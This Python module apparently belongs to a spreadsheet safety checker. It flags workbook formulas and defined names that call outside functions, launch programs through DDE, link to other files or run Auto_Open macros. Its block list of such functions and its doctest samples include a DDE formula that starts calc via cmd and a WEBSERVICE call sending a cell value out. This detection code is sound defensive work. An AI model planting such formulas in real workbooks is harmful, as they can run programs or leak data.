"""Formulas that reach outside the workbook, in cells and names.

A file may write a function in capitals or not, with spaces before its parenthesis, with the
prefixes of newer functions, and as an argument, without a parenthesis, with ``_xleta.`` in front.
A name that begins with ``Auto_`` is run when the file is opened or closed, if it leads to a macro
sheet; ``xlm`` and ``vbProcedure`` mark names of macros (ECMA-376 part 1, 18.2.5).
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Set
from functools import cache
from urllib.parse import unquote
from xml.etree.ElementTree import Element

from workbook.check.findings import Finding, PartFinding
from workbook.check.safety.addresses import link_fault
from workbook.hosts.foreign import calls
from workbook.hosts.intersection import typed
from workbook.package.cells import Place, place
from workbook.package.formulas import TOKEN
from workbook.package.limits import check
from workbook.package.links import ADDIN, file_name, files_in
from workbook.package.names import EXCEL_FUNCTIONS
from workbook.package.package import Package
from workbook.refusal import CALLABLE

#: Functions that fetch something, send something, open something, or run code of another program:
#: those of Excel's cells, of its macro language of 1992, which names still speak, and of Calc.
OUTSIDE = frozenset({
    *("CALL", "COPILOT", "DDE", "DETECTLANGUAGE", "IMAGE", "IMPORTCSV", "IMPORTTEXT", "PQSOURCE"),
    *("PY", "REGISTER.ID", "RTD", "SQL.REQUEST", "STOCKHISTORY", "TRANSLATE", "WEBSERVICE"),
    *("CUBEKPIMEMBER", "CUBEMEMBER", "CUBEMEMBERPROPERTY", "CUBERANKEDMEMBER", "CUBESET"),
    *("CUBESETCOUNT", "CUBEVALUE", "SQL.OPEN"),
    *("DIRECTORY", "EVALUATE", "EXEC", "EXECUTE", "FCLOSE", "FILES", "FOPEN", "FREAD", "FREADLN"),
    *("FWRITE", "FWRITELN", "INITIATE", "POKE", "REGISTER", "REQUEST", "TERMINATE"),
    *("UNREGISTER",),
})  # fmt: skip

#: Texts, the names of sheets, and those of columns.
_TEXTS = re.compile(r""""(?:[^"]|"")*"|'(?:[^']|'')*'|\[[^\[\]]*\]""")
_CALLED = re.compile(r"([^\W\d][\w.]*)\s*\(")
_ETA = re.compile(r"_xleta\.([\w.]+)", re.IGNORECASE)
_LINK, _INDIRECT = (
    re.compile(rf"{name}\s*\(", re.IGNORECASE) for name in ("HYPERLINK", "INDIRECT")
)
#: More calls than anybody writes in a formula, each of which is read.
_MOST = 100
#: A text that a formula spells out, or a cell to which it refers.
_SPELLED = re.compile(
    r"""
    "(?P<text>(?:[^"]|"")*)"
  | (?:(?P<sheet>'(?:[^']|'')+'|[\w.]+)!)?\$?(?P<cell>[A-Z]{1,3}\$?[1-9]\d*)(?![\w(:])
    """,
    re.IGNORECASE | re.VERBOSE,
)
#: What no place in the workbook has: a path, an address, or the name of a file in brackets.
_ELSEWHERE = re.compile(r"[\\/]{2}|:[\\/]|(?:^|['\\/])\[")
_AUTO = re.compile(r"(?:_xlnm\.)?auto_?(?:open|close|activate|deactivate)", re.IGNORECASE)
WORKBOOK = "xl/workbook.xml"
_MACRO = ("function", "macro", "vbProcedure", "xlm")
#: How functions of the macro language begin that do something and have a name of several words;
#: other functions with a dot are those of other add-ins.
_DOES = re.compile(
    r"(?:ADD|APP|CLOSE|COPY|CREATE|DEFINE|DELETE|EDIT|FILE|GET|INSERT|LINK|MAIL|NEW|ON|OPEN|PRINT"
    r"|QUERY|ROUTE|RUN|SAVE|SELECT|SEND|SET|SQL|UPDATE|VBA|WINDOW|WORKBOOK|WORKGROUP)\.[A-Z.]+"
)

#: Where a link leads whose address is not written out.
CALCULATED = "to a calculated address"

REACH = "formulas that reach outside of the workbook"
LINKS = "formulas with a link that leads outside of the workbook"
MACROS = "names of macros"


def reached(formula: str) -> str:
    """Name what a formula reaches outside of the workbook; nothing for most.

    Links are none: `HYPERLINK` does nothing until it is clicked.

    Examples
    --------
    >>> reached('1+_xlfn.webservice ("http://example.org/?"&A1)')
    'calls WEBSERVICE'
    >>> reached("cmd|'/c calc'!A1"), reached('"Call (a|b)"&A1')
    ('starts another program', '')
    """
    if function := _outside(_called(formula)):
        return f"calls {function}"
    if "_xleta." in formula.lower() and (function := _outside(frozenset(_ETA.findall(formula)))):
        return f"calls {function}"
    return "starts another program" if "|" in formula and "|" in _TEXTS.sub("", formula) else ""


def examined(package: Package) -> Iterator[Finding | PartFinding]:
    """Find what reaches outside in the formulas of cells and names."""
    names = [*package.tree(WORKBOOK).iterfind("definedNames/definedName")]
    known = {held.get("name", "").upper() for held in names} | EXCEL_FUNCTIONS | CALLABLE.keys()
    for sheet, page in package.sheets.items():
        for at, formula in page.formulas.items():
            text = formula.text
            if why := wrong(text) or _unknown(_dotted(text), known):
                yield Finding(sheet, at, f"{why}: ={cut(text)}", REACH)
            elif where := _leads(package, sheet, text):
                yield Finding(sheet, at, f"has a link that leads {where}: ={cut(text)}", LINKS)
    for held in names:
        yield from _of_name(package, held, known)


def _called(formula: str) -> frozenset[str]:
    """Return the functions that a formula calls."""
    # The name of a table's column may hold a quotation mark, and so hide what follows it.
    return frozenset(_CALLED.findall(formula)) if "[" in formula else calls(formula)


@cache
def _outside(names: frozenset[str]) -> str:
    """Return the first of some functions that reaches outside."""
    return min(OUTSIDE.intersection(map(typed, names)), default="")


def _elsewhere(text: str) -> str:
    """Say which other file a formula spells out; those that it has by number are parts."""
    for path in files_in(text):
        file = file_name(path)
        if file.casefold() != ADDIN:
            return f"refers to the file {file}"
        if fault := link_fault(path):
            return f"refers to {file} by a path that {fault}"
    return ""


def leads_out(place: str) -> bool:
    r"""Tell whether what should be a place in the workbook is in another file.

    Examples
    --------
    >>> leads_out("'R&D'!A1"), leads_out(r"[\\server\x.xlsm]S!A1"), leads_out("cmd|'/c calc'!A1")
    (False, True, True)
    """
    return bool(_ELSEWHERE.search(unquote(place.lstrip("#"))) or reached(place))


def _leads(package: Package, sheet: str, text: str) -> str:
    """Say where the first link of a formula leads that leaves the workbook."""
    for argument in _arguments(text, _LINK):
        # What a function makes of a cell cannot be seen.
        spelled = _spelled(argument, None if "(" in argument else (package, sheet))
        one = _SPELLED.fullmatch(argument)
        if one and one["text"] is not None:
            if spelled and (not spelled.startswith("#") or leads_out(spelled)):
                return f"to {spelled}"
        elif not (spelled if one else argument.lstrip('"')).startswith("#") or leads_out(spelled):
            return CALCULATED
    return ""


def _arguments(text: str, function: re.Pattern[str]) -> Iterator[str]:
    """Yield the first argument of each call of a function, also of what only looks like a call."""
    calls = [*function.finditer(text)]
    if len(calls) > _MOST:
        yield text
        return
    for call in calls:
        depth, end = 0, len(text)
        for found in TOKEN.finditer(text, call.end()):
            if depth == 0 and found[0] in (",", ")"):
                end = found.start()
                break
            depth += (found[0] in ("(", "{")) - (found[0] in (")", "}"))
        yield text[call.end() : end].strip()


def _spelled(argument: str, within: tuple[Package, str] | None = None) -> str:
    """Return the texts of an argument, with those of the cells to which it refers in a sheet."""
    spelled = ""
    for found in _SPELLED.finditer(argument):
        if found["text"] is not None:
            spelled += found["text"].replace('""', '"')
        elif within is not None:
            package, sheet = within
            title = (found["sheet"] or sheet).strip("'").replace("''", "'")
            if (page := package.sheets.get(title)) is not None:
                at: Place = place(found["cell"].replace("$", "").upper())
                formula = page.formulas.get(at)
                spelled += str(page.value(at) or "#") if formula is None else _spelled(formula.text)
    return spelled


def wrong(text: str) -> str:
    """Say what a formula reaches, or to which other file it refers."""
    if why := reached(text) or _elsewhere(text):
        return why
    places = map(_spelled, _arguments(text, _INDIRECT))
    return next((f"refers to {each}" for each in places if leads_out(each)), "")


def _dotted(text: str) -> frozenset[str]:
    """Return the functions of a cell that could be the macro language's."""
    return frozenset(name for name in _called(text) if "." in name and _DOES.fullmatch(typed(name)))


def _unknown(called: frozenset[str], known: Set[str]) -> str:
    """Name a function that no cell can call: one of the macro language, or of a project's."""
    # Newer functions of cells have a prefix, and what LAMBDA and LET give a name has another.
    plain = (name for name in called if not name.lower().startswith(("_xlfn.", "_xlpm.")))
    names = {typed(name) for name in plain}
    function = min(names - known, default="")
    return function and f"calls {function}, which is neither an Excel nor an Offtake function"


def _of_name(package: Package, held: Element, known: Set[str]) -> Iterator[PartFinding]:
    """Find what a name reaches, and whether it is that of a macro."""
    name, text = held.get("name", ""), held.text or ""
    check("formula", len(text), name)
    said = f"the{' hidden' * (held.get('hidden') in ('1', 'true'))} name {name}"
    if why := wrong(text) or _unknown(_called(text), known):
        yield PartFinding(WORKBOOK, f"{said} {why}: ={cut(text)}", REACH)
    elif where := _leads(package, "", text):
        yield PartFinding(WORKBOOK, f"{said} has a link that leads {where}: ={cut(text)}", LINKS)
    elif _AUTO.match(name):
        why = "runs a macro when the file is opened or closed"
        yield PartFinding(WORKBOOK, f"{said} {why}: ={cut(text)}", MACROS)
    elif _is_macro(held):
        yield PartFinding(WORKBOOK, f"{said} belongs to a macro: ={cut(text)}", MACROS)


def _is_macro(held: Element) -> bool:
    """Tell whether a name is of a macro that is not one of our functions, which Excel may list."""
    marked = any(held.get(attribute) in ("1", "true") for attribute in _MACRO)
    return marked and held.get("name", "").upper() not in CALLABLE


def cut(text: str) -> str:
    """Shorten a formula, on one line."""
    line = " ".join(text.split())
    return line if len(line) <= 80 else f"{line[:79]}…"
